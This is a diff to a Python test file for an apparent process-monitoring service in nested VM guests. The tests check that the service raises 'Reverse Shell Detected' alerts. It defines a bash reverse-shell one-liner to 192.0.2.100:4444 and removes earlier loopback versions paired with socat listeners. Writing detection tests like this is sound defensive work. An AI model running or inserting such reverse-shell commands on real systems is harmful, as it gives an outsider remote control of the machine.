@@ -21,6 +21,10 @@ from guest import GuestError
 from nested import Inner, outer_guest
 from test_ps import argus_ps, compare, truth
 
+# to a program in the outer guest, through the inner's user-mode network
+# (nested/run-inner): another machine, for the inner guest
+REVERSE_SHELL = "bash -c 'exec bash -i >& /dev/tcp/192.0.2.100/4444 0>&1'"
+
 SLEEP = "500ms"
 
 
@@ -161,9 +165,7 @@ def test_service_alerts_inside_and_sees_it_go_and_come(nested, tmp_path):
         assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Process Created" and
                             m["activity_data"]["process_details"]["process_id"] == pid,
                             timeout=15), "a process born in the inner guest was not seen"
-        inner.spawn("sleep 1000 | socat TCP-LISTEN:4460,reuseaddr -")
-        time.sleep(1)
-        inner.spawn("bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4460 0>&1'")
+        inner.spawn(REVERSE_SHELL)
         assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Reverse Shell Detected",
                             timeout=20), "the reverse shell in the inner guest was not alerted"
         svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))
@@ -228,9 +230,7 @@ def test_service_finds_the_inner_vms_by_itself(nested, tmp_path):
         assert svc.wait_for(lambda m: named(m, me, "Process Created") and
                             m["activity_data"]["process_details"]["process_id"] == pid,
                             timeout=15), "a process born in the inner guest was not seen"
-        inner.spawn("sleep 1000 | socat TCP-LISTEN:4461,reuseaddr -")
-        time.sleep(1)
-        inner.spawn("bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4461 0>&1'")
+        inner.spawn(REVERSE_SHELL)
         assert svc.wait_for(lambda m: named(m, me, "Reverse Shell Detected"), timeout=20), \
             "the reverse shell in the inner guest was not alerted"
         time.sleep(2 * svc.sleep_s + 0.2)
